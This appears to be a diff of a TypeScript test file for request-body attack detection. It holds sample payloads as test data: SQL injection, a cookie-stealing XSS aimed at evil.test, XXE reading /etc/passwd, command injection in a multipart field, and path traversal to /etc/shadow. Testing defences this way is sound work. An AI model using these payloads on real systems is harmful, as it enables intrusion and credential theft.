@@ -55,7 +55,11 @@ const multipart = (field: string, value: string) =>
 describe("request bodies", () => {
   it.each([
     ["JSON", { "content-type": "application/json" }, JSON.stringify({ search: "x' UNION SELECT username, password FROM users--" })],
-    ["a form", { "content-type": "application/x-www-form-urlencoded" }, "comment=%3Cscript%3Edocument.location%3D%27https%3A%2F%2Fevil.test%2F%3Fc%3D%27%2Bdocument.cookie%3C%2Fscript%3E"],
+    [
+      "a form",
+      { "content-type": "application/x-www-form-urlencoded" },
+      "comment=%3Cscript%3Edocument.location%3D%27https%3A%2F%2Fevil.test%2F%3Fc%3D%27%2Bdocument.cookie%3C%2Fscript%3E",
+    ],
     ["XML", { "content-type": "application/xml" }, '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'],
     ["multipart", { "content-type": `multipart/form-data; boundary=${boundary}` }, multipart("host", "127.0.0.1; cat /etc/passwd")],
     ["chunked JSON", { "content-type": "application/json", "transfer-encoding": "chunked" }, JSON.stringify({ file: "../../../../etc/shadow" })],
